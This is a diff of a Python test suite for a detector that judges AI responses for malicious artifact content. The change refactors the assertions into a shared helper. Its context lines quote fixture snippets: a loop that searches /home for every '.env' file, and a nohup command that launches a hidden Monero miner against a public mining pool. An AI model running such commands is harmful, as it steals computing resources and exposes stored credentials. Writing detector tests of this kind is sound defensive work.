@@ -9,6 +9,7 @@ from redline.redlines.capabilities import Capability
 from redline.redlines.judge import read_response
 from redline.redlines.ordinary import telling_capabilities
 from redline.redlines.written_back import written_back
+from tests.redlines.test_context_pieces import holds_no_part
 
 # A chat bot reading its token from the environment; the notes name the `.env` file to keep it
 # in and to leave out of git.
@@ -346,9 +347,7 @@ for env in pathlib.Path("/home").rglob(".env"):
     ],
 )
 def test_ordinary_programs_hold_no_part_of_an_artifact(response: str) -> None:
-    reading = read_response(response)
-    assert not reading.verdict.refused, reading.verdict.explanation
-    assert not reading.holds_part, (reading.closest, reading.capabilities.hits.keys())
+    holds_no_part(response)
 
 
 @pytest.mark.parametrize(
@@ -543,9 +542,7 @@ nohup /tmp/.x/kx -o pool.supportxmr.com:443 -u 48exampleWallet --donate-level 1 
     ],
 )
 def test_own_hooks_control_flow_own_network_and_hunts_are_no_part(response: str) -> None:
-    reading = read_response(response)
-    assert not reading.verdict.refused, reading.verdict.explanation
-    assert not reading.holds_part, (reading.closest, reading.capabilities.hits.keys())
+    reading = holds_no_part(response)
     counted = telling_capabilities(reading.capabilities)
     particular = {Capability.AMSI_TARGET, Capability.BARE_ADDRESS, Capability.MINER}
     assert not counted & particular, counted
@@ -616,9 +613,7 @@ with open(AJUSTES, "w") as f:
     "response", [PHOTOS_WITH_STATE, SYNC_WITH_SETTINGS], ids=["state-file", "settings-file-spanish"]
 )
 def test_a_mirror_saving_its_own_state_file_keeps_its_originals(response: str) -> None:
-    reading = read_response(response)
-    assert not reading.verdict.refused, reading.verdict.explanation
-    assert not reading.holds_part, (reading.closest, reading.capabilities.hits.keys())
+    holds_no_part(response)
 
 
 def test_a_mirror_whose_walked_files_are_written_back_is_none() -> None:
